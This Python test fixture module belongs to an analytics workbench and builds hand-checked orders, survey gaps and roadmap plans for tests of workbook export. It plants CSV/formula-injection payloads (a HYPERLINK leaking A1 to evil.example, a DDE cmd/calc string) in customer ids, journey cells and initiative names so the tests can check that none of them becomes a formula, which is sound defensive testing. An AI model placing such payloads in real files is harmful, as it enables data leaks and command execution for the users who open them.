"""A small workspace whose report figures are worked out by hand, with hostile text in customer ids,
journey cells, a survey attribute and initiative names; and readers of a written workbook (sheets, charts)."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from workbench import journey, roadmap
from workbench import value_gap as vg
from workbench.roadmap import config as roadmap_config
from workbench.segments import display
from workbench.value_gap import display as vg_display

# Spreadsheet formula injection (OWASP's CSV-injection examples and the issue's): none may become a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(A1:A9)"
TAB_LED = "\t=1+1"

# Five customers, eight orders, all in 2024 (revenue 500):
#   A      300  (3 orders on 3 days)        cumulative share before: 0    → key
#   B      100  (2 orders on 2 days)                                  0.60 → key
#   HYPER   60  (1)                                                   0.80 → ordinary (not below 80%)
#   D       30  (1)                                                   0.92 → ordinary
#   -2+3    10  (1)                                                   0.98 → small
# KPIs over the page's default period (the last 365 days of data, 2024-01-10 .. 2024-12-31, all orders):
# 5 active customers, 8 orders, revenue 500, AOV 62.50, ARPU 100, repurchase rate 2/5 = 40% (A and B).
ORDERS = pd.DataFrame({
    "order_id": [f"o{i}" for i in range(8)],
    "customer_id": ["A", "A", "A", "B", "B", HYPERLINK, "D", "-2+3"],
    "order_ts": pd.to_datetime(["2024-01-10", "2024-06-01", "2024-12-20", "2024-03-01", "2024-11-15", "2024-05-05",
                                "2024-08-08", "2024-12-31"]),
    "amount": [100.0, 100, 100, 50, 50, 60, 30, 10],
    "channel": ["门店"] * 8,
    "city": ["上海"] * 8,
})

PYRAMID = {"key": (2, 400.0), "ordinary": (2, 90.0), "small": (1, 10.0), "negative": (0, 0.0)}

# A survey of four respondents rating three attributes on 1–7 (the third one's name is hostile), by hand:
#   attribute  importance   expectation  performance   gaps (perf − exp)   mean   sd      priority = imp × −gap
#   Speed      7 7 6 6→6.5  6 6 6 6→6    3 4 4 5→4     −3 −2 −2 −1         −2     √(2/3)   6.5 × 2 = 13
#   HYPERLINK  3 3 3 3→3    4 4 4 4→4    4 4 4 4→4      0  0  0  0          0     0        0
#   Taste      5 5 5 5→5    5 5 5 5→5    6 6 6 6→6     +1 +1 +1 +1         +1     0        5 × −1 = −5
# ranked by priority: Speed 1, HYPERLINK 2, Taste 3. Speed's 95% interval: −2 ± t(0.975, 3)·√(2/3)/√4
# = −2 ± 3.182446 × 0.816497 / 2 = −2 ± 1.299228 (a shortfall); Taste's has no width at +1 (a surplus);
# HYPERLINK's is [0, 0] (on par).
# IPA, cross-hairs at the mean (the default): performance (4 + 4 + 6) / 3 = 4.6667, importance
# (6.5 + 3 + 5) / 3 = 4.8333 → Speed concentrate here, Taste keep up the good work, HYPERLINK low priority;
# the chart's axes from 2.5 to 7 (half a point around 3 … 6.5, on half points).
# Kano pairs (functional, dysfunctional) on the standard table: Speed (1,5) O, (1,5) O, (2,5) M, (1,4) A →
# better (A+O)/4 = 0.75, worse −(O+M)/4 = −0.75, category O; Taste (1,4) A ×3, (3,3) I → better 0.75, worse 0,
# category A; HYPERLINK has no pairs. No overall measure (no overall attribute, no CSAT): derived importance
# gets the page's note.
_RATINGS = {"Speed": ([7, 7, 6, 6], [6, 6, 6, 6], [3, 4, 4, 5], [(1, 5), (1, 5), (2, 5), (1, 4)]),
            HYPERLINK: ([3] * 4, [4] * 4, [4] * 4, [(None, None)] * 4),
            "Taste": ([5] * 4, [5] * 4, [6] * 4, [(1, 4), (1, 4), (3, 3), (1, 4)])}
SURVEY = pd.DataFrame(
    [(f"R{i}", None, None, a, None, float(imp[i]), float(exp[i]), float(perf[i]), None, kano[i][0], kano[i][1])
     for a, (imp, exp, perf, kano) in _RATINGS.items() for i in range(4)],
    columns=list(vg.store.SURVEY_COLUMNS)).astype({"kano_functional": "Int64", "kano_dysfunctional": "Int64"})
GAPS = {  # attribute: (rank, importance, expectation, performance, gap, low, high, n, priority, status)
    "Speed": (1, 6.5, 6.0, 4.0, -2.0, -3.299228, -0.700772, 4, 13.0, "shortfall"),
    HYPERLINK: (2, 3.0, 4.0, 4.0, 0.0, 0.0, 0.0, 4, 0.0, "on_par"),
    "Taste": (3, 5.0, 5.0, 6.0, 1.0, 1.0, 1.0, 4, -5.0, "surplus"),
}
QUADRANTS = {"Speed": "concentrate", HYPERLINK: "low_priority", "Taste": "keep_up"}
KANO = {"Speed": (0.75, -0.75, "O"), "Taste": (0.75, 0.0, "A")}

# The plan, from 2024-12 (the report is dated 2025-01-15: today is in month 1, 2025-01), phases with capacity:
# short term (months 0–5) 100,000, mid term (6–17) 200,000, long term (18–35) no limit. On the plan:
#   #3 (hostile title)   planned      months 1–2   no budget      no KPI → warning
#   #4 (the Speed gap)   planned      months 0–2   60,000         service (service excellence)
#   #5 "Loyalty app"     planned      months 2–5   50,000         emotion (loyalty); depends on #4, which
#                                                                  ends at 3 → starts before it ends
#   #6 "Community"       in progress  months 6–11  30,000         brand; depends on #5 (ends at 6: fine)
# short term: 60,000 + 50,000 = 110,000 > 100,000 → over budget; mid term 30,000; long term 0. Total 140,000.
# #1 and #2 stay ideas (the board): no budget, not on the Gantt. RICE (reach × impact × confidence ÷ effort):
# #4 100 × 2 × 0.8 ÷ 2 = 80, #6 50 × 3 × 0.5 ÷ 1 = 75, #5 200 × 1 × 1.0 ÷ 4 = 50 → ranks 1, 2, 3; the others
# have no RICE inputs, so no score, and come last (by id), as on the priority board.
PLAN_START = "2024-12"
PHASES = [{"key": "short", "name": "", "end": 6, "budget": 100_000, "headcount": None},
          {"key": "mid", "name": "", "end": 18, "budget": 200_000, "headcount": None},
          {"key": "long", "name": "", "end": 36, "budget": None, "headcount": None}]
BARS = {3: (1, 3, ""), 4: (0, 3, "service"), 5: (2, 6, "emotion"), 6: (6, 12, "brand")}  # id: (start, end, dimension)
RICE = {4: (80.0, 1), 6: (75.0, 2), 5: (50.0, 3)}  # id: (score, rank)
PHASE_BUDGETS = [(110_000.0, 100_000.0, True), (30_000.0, 200_000.0, False), (0.0, None, False)]


def _hostile_map(ws) -> int:
    """A journey map whose name, a stage name, cells and persona carry formula-looking text."""
    map_id = journey.create_map(ws, "=cmd|'/c calc'!A0", "en")
    m = journey.load_map(ws, map_id)
    s1, s2, s3, s4, s5 = (s.stage_id for s in m.stages)
    m = journey.set_cell(m, s1, "touchpoints", [HYPERLINK])
    m = journey.set_cell(m, s2, "pain_points", [CMD, AT_SUM])
    m = journey.set_cell(m, s3, "thoughts", ["-1 star, would not return"])
    m = journey.rename_stage(m, s4, "=1+1")
    for stage, as_is, to_be in ((s1, -2, 1), (s2, -1, 1), (s3, 0, 1), (s4, 1.5, 2), (s5, None, 2)):
        m = journey.set_emotion(m, stage, as_is, to_be)
    m = replace(m, persona=journey.Persona(name=AT_SUM, goals="=1+2"), segmentation="pyramid", segment="key")
    journey.save_map(ws, m)
    return map_id


def _plan(ws) -> None:
    """The plan above: the hand-made initiative scheduled, the Speed gap and two more initiatives, phases with
    capacity (the short term over budget)."""
    row = roadmap.get_initiative(ws, 3)
    roadmap.update_initiative(ws, 3, {"status": "planned", "start_month": 1, "duration_months": 2}, row["revision"])
    speed = vg.analyse(ws).gaps.set_index("attribute").loc["Speed"].to_dict()
    fields = vg_display.initiative_fields({**speed, "attribute": "Speed"}, {}, None, None, "en")
    roadmap.create_initiative(ws, fields.pop("title"), **fields, status="planned", start_month=0, duration_months=3,
                              budget=60_000, owner="Ops", strategy="service_excellence", reach=100, impact=2,
                              confidence=0.8, effort=2)
    roadmap.create_initiative(ws, "Loyalty app", status="planned", start_month=2, duration_months=4, budget=50_000,
                              owner="CRM", strategy="loyalty", depends_on=[4], kpi="Repurchase rate",
                              kpi_target="45%", reach=200, impact=1, confidence=1.0, effort=4)
    roadmap.create_initiative(ws, "Community", status="in_progress", start_month=6, duration_months=6,
                              budget=30_000, owner="Brand", strategy="brand_value", depends_on=[5], kpi="NPS",
                              kpi_target="+10", reach=50, impact=3, confidence=0.5, effort=1)
    roadmap_config.save_plan(ws, PLAN_START, PHASES, roadmap_config.load_config(ws).revisions["plan"])


@pytest.fixture
def report_ws(make_workspace):
    """The workspace above with a hostile journey map, the survey, and six initiatives (segment, pain point, by
    hand, a value gap, two more), four of them on the plan."""
    ws = make_workspace("shop", orders=ORDERS, survey=SURVEY)
    map_id = _hostile_map(ws)
    profile = display.profile_of(ws, "pyramid", "en")
    roadmap.create_initiative(ws, **display.initiative_fields(profile, "pyramid", "key", "en"))
    m = journey.load_map(ws, map_id)
    stage_id, _, item = next(a for a in journey.actionable_items(m) if a[2].text == CMD)
    roadmap.create_initiative(ws, **journey.initiative_fields(m, stage_id, item.item_id))
    roadmap.create_initiative(ws, HYPERLINK, owner=TAB_LED, target_segment=CMD)
    _plan(ws)
    return ws


def chart_types(path: Path) -> dict[str, list[str]]:
    """The native charts of each sheet, read from the file's parts: sheet → drawing → chart → plot type."""
    with zipfile.ZipFile(path) as z:
        names = set(z.namelist())

        def norm(folder: str, target: str) -> str:
            parts = []
            for piece in f"{folder}/{target}".split("/"):
                if piece == "..":
                    parts.pop()
                elif piece and piece != ".":
                    parts.append(piece)
            return "/".join(parts)

        workbook = z.read("xl/workbook.xml").decode()
        wb_rels = {rid: norm("xl", t) for rid, t in
                   re.findall(r'Id="([^"]+)"[^>]*Target="([^"]+)"', z.read("xl/_rels/workbook.xml.rels").decode())}
        found: dict[str, list[str]] = {}
        for name, rid in re.findall(r'<sheet name="([^"]+)" sheetId="\d+" r:id="([^"]+)"', workbook):
            sheet_part = wb_rels[rid]
            sheet_dir = sheet_part.rsplit("/", 1)[0]
            sheet_rel = f"{sheet_dir}/_rels/{sheet_part.rsplit('/', 1)[1]}.rels"
            types: list[str] = []
            if sheet_rel in names:
                for target in re.findall(r'Target="([^"]+drawing\d+\.xml)"', z.read(sheet_rel).decode()):
                    drawing = norm(sheet_dir, target)
                    drawing_rel = drawing.replace("drawings/", "drawings/_rels/") + ".rels"
                    for chart in re.findall(r'Target="([^"]+chart\d+\.xml)"', z.read(drawing_rel).decode()):
                        xml = z.read(norm(drawing.rsplit("/", 1)[0], chart)).decode()
                        types += re.findall(r"<c:(barChart|lineChart|scatterChart|pieChart)>", xml)
            found[_unescape(name)] = types
        return found


def _unescape(text: str) -> str:
    return (text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">")
            .replace("&amp;", "&"))


def chart_xml(path: Path) -> list[str]:
    """The XML of every chart part (``xl/charts/chartN.xml``) of a workbook."""
    with zipfile.ZipFile(path) as z:
        return [z.read(n).decode() for n in sorted(z.namelist()) if re.match(r"xl/charts/chart\d+\.xml$", n)]


def formulas(path: Path) -> list[str]:
    """Every formula in the workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [f for n in z.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml$", n)
                for f in re.findall(r"<f>([^<]*)</f>", z.read(n).decode())]


@pytest.fixture
def rx():
    """What the report tests compare against: the hostile texts, the hand-worked pyramid, and the readers."""
    return SimpleNamespace(HYPERLINK=HYPERLINK, CMD=CMD, AT_SUM=AT_SUM, TAB_LED=TAB_LED, PYRAMID=PYRAMID,
                           ORDERS=ORDERS, GAPS=GAPS, QUADRANTS=QUADRANTS, KANO=KANO, SURVEY=SURVEY, BARS=BARS,
                           PHASE_BUDGETS=PHASE_BUDGETS, RICE=RICE, chart_types=chart_types, formulas=formulas,
                           chart_xml=chart_xml)
